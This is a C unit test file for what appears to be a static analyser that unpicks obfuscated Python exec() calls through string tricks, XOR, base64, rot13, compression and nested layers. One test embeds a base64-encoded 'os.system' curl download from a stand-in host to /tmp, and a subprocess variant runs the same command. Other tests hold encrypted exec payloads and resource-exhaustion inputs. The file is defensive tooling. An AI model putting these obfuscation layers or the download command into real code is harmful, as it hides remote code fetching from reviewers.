/* What Python's interpreter knows: literals, slices, formats, decoders, and how layers are told. */
#include "read/py_case.h"

/* exec() of this expression is known to run `import os; ...` */
static void folds_to(const char *prelude, const char *expression, const char *want)
{
	char text[4096];
	int n = snprintf(text, sizeof(text), "%sexec(%s)\n", prelude, expression);
	struct js_case *c;

	assert_true(n > 0 && (size_t)n < sizeof(text));
	c = py_run(text);
	if (!js_case_find(c, FACT_CALL, "exec", want)) {
		print_message("not folded:\n%s\n", text);
		js_case_print(c);
	}
	assert_non_null(js_case_find(c, FACT_CALL, "exec", want));
	js_case_free(c);
}

static void literals_and_operators(void **state)
{
	(void)state;
	folds_to("", "'pri' + \"nt\" '(1)'", "print(1)");
	folds_to("", "b'print(1)'", "print(1)");
	folds_to("", "'\\x70\\x72int\\50\\u0031\\x29'", "print(1)");
	folds_to("", "r'print(\"\\n\")'", "print(\"\\n\")");
	folds_to("", "'''print(1)'''", "print(1)");
	folds_to("a = 'print'\n", "f'{a}(1)'", "print(1)");
	folds_to("a = 'print'\n", "f'{{{a}}}'", "{print}");
	folds_to("", "'%s(%d)' % ('print', 1)", "print(1)");
	folds_to("", "'{}({})'.format('print', 1)", "print(1)");
	folds_to("", "'{1}({0})'.format(1, 'print')", "print(1)");
	folds_to("", "'{f}({x})'.format(f='print', x=1)", "print(1)");
	folds_to("", "')1(tnirp'[::-1]", "print(1)");
	folds_to("", "'xprint(1)y'[1:-1]", "print(1)");
	folds_to("", "'pxrxixnxtx(x1x)x'[::2]", "print(1)");
	folds_to("", "'print' * 2", "printprint");
	folds_to("", "'print(1)' if 7 // 2 == 3 and -7 % 3 == 2 else 'no'", "print(1)");
	folds_to("", "'print(1)' if 'a' in 'bar' and 3 not in [1, 2] else 'no'", "print(1)");
}

static void builtins_and_methods(void **state)
{
	(void)state;
	folds_to("", "''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41]))", "print(1)");
	folds_to("", "''.join(chr(c - 1) for c in [113, 115, 106, 111, 117, 41, 50, 42])", "print(1)");
	folds_to("", "''.join([chr(c ^ 5) for c in b'uwlkq-4,'])", "print(1)");
	folds_to("", "bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode()", "print(1)");
	folds_to("", "bytes(a ^ b for a, b in zip(b'uwlkq-4,', b'\\x05' * 8))", "print(1)");
	folds_to("from itertools import cycle\n", "bytes(a ^ b for a, b in zip(b'uwlkq-4,', cycle(b'\\x05')))", "print(1)");
	folds_to("", "'PRINT(1)'.lower()", "print(1)");
	folds_to("", "'prXnt(1)'.replace('X', 'i')", "print(1)");
	folds_to("", "''.join('p-r-i-n-t-(1)'.split('-'))", "print(1)");
	folds_to("", "''.join(reversed(')1(tnirp'))", "print(1)");
	folds_to("", "'qsjou)2*'.translate({113: 'p', 115: 'r', 106: 'i', 111: 'n', 117: 't', 41: '(', 50: '1', 42: ')'})", "print(1)");
	folds_to("", "'abcde'.translate(str.maketrans('abcde', 'print'))", "print");
	folds_to("d = lambda s: ''.join(chr(ord(c) - 1) for c in s)\n", "d('qsjou)2*')", "print(1)");
	folds_to("def d(s, k=1):\n    r = ''\n    for c in s:\n        r += chr(ord(c) - k)\n    return r\n", "d('rtkpv*3+', k=2)", "print(1)");
	folds_to("t = {'a': 'print', 'b': '(1)'}\n", "t['a'] + t['b']", "print(1)");
	folds_to("l = ['(1)', 'print']\n", "l[-1] + l[0]", "print(1)");
	folds_to("from functools import reduce\n", "reduce(lambda a, b: a + b, ['print', '(1)'])", "print(1)");
	folds_to("x = 'print'\nx += '(1)'\n", "x", "print(1)");
}

static void decoders(void **state)
{
	static const char all[] = "import base64, binascii, codecs, zlib, gzip, bz2, lzma, urllib.parse\n";

	(void)state;
	folds_to(all, "base64.b64decode('cHJpbnQoMSk=')", "print(1)");
	folds_to("from base64 import b64decode as d\n", "d('cHJpbnQoMSk=').decode('utf-8')", "print(1)");
	folds_to(all, "__import__('base64').b64decode('cHJpbnQoMSk=')", "print(1)");
	folds_to(all, "getattr(__import__('base64'), 'b64' + 'decode')('cHJpbnQoMSk=')", "print(1)");
	folds_to(all, "base64.b32decode('OBZGS3TUFAYSS===')", "print(1)");
	folds_to(all, "base64.b16decode('7072696E74283129')", "print(1)");
	folds_to(all, "base64.b85decode('aA9(EX=DR')", NULL);
	folds_to(all, "bytes.fromhex('7072696e74283129').decode()", "print(1)");
	folds_to(all, "binascii.unhexlify('7072696e74283129')", "print(1)");
	folds_to(all, "codecs.decode('cevag(1)', 'rot13')", "print(1)");
	folds_to(all, "codecs.decode('7072696e74283129', 'hex')", "print(1)");
	folds_to(all, "zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADlUC6Q=='))", NULL);
	folds_to(all, "urllib.parse.unquote('print%281%29')", "print(1)");
	folds_to(all, "base64.b64decode(base64.b64decode('Y0hKcGJuUW9NU2s9'))", "print(1)");
	folds_to(all, "base64.b64decode('=kSMoQnbpJHc'[::-1])", "print(1)");
}

static void layers_are_read_again(void **state)
{
	static const char text[] =
		"import base64\n"
		"exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwczovL2EuZXhhbXBsZS94IC1vIC90bXAveCIp'))\n";
	struct js_case *c = py_run(text);
	const struct fact *f = js_case_find(c, FACT_DECODED, "base64", "a.example");

	(void)state;
	assert_non_null(f);
	assert_int_equal(f->number, 1);
	f = js_case_find(c, FACT_CALL, "os.system", "curl https://a.example/x");
	assert_non_null(f);
	assert_true(str_has(f->detail, "decoded layer 1"));
	f = js_case_find(c, FACT_FLOW, "data>code", NULL);
	assert_non_null(f);
	assert_true(f->flags & FACT_DECODED_ARG);
	assert_null(js_case_find(c, FACT_UNRESOLVED, NULL, NULL));
	js_case_free(c);
	/* a command that starts another Python */
	py_says("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os; os.system('curl https://a.example/x')\"])\n",
		FACT_CALL, "os.system", "a.example");
}

static void what_cannot_be_known_is_said(void **state)
{
	static const char *const texts[] = {
		"from cryptography.fernet import Fernet\nexec(Fernet(b'key').decrypt(b'gAAAAABm'))\n",
		"import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n",
		"from Crypto.Cipher import AES\nimport base64\nexec(AES.new(b'0123456789abcdef', AES.MODE_ECB).decrypt(base64.b64decode('AAAA')))\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++)
		py_says(texts[i], FACT_UNRESOLVED, "code", NULL);
}

static void bombs_end(void **state)
{
	(void)state;
	js_case_free(py_run("x = 'a'\nfor i in range(1000000):\n    x = x + x\nexec(x)\n"));
	js_case_free(py_run("exec('a' * 999999999)\n"));
	js_case_free(py_run("exec(''.join(chr(i % 90) for i in range(99999999)))\n"));
	js_case_free(py_run("f = lambda n: f(n - 1) + f(n - 2)\nexec(str(f(90)))\n"));
	js_case_free(py_run("l = []\nl.append(l)\nexec(str(l))\nexec(l == l and 'x')\n"));
	js_case_free(py_run("while True:\n    pass\n"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(literals_and_operators),
		cmocka_unit_test(builtins_and_methods),
		cmocka_unit_test(decoders),
		cmocka_unit_test(layers_are_read_again),
		cmocka_unit_test(what_cannot_be_known_is_said),
		cmocka_unit_test(bombs_end),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
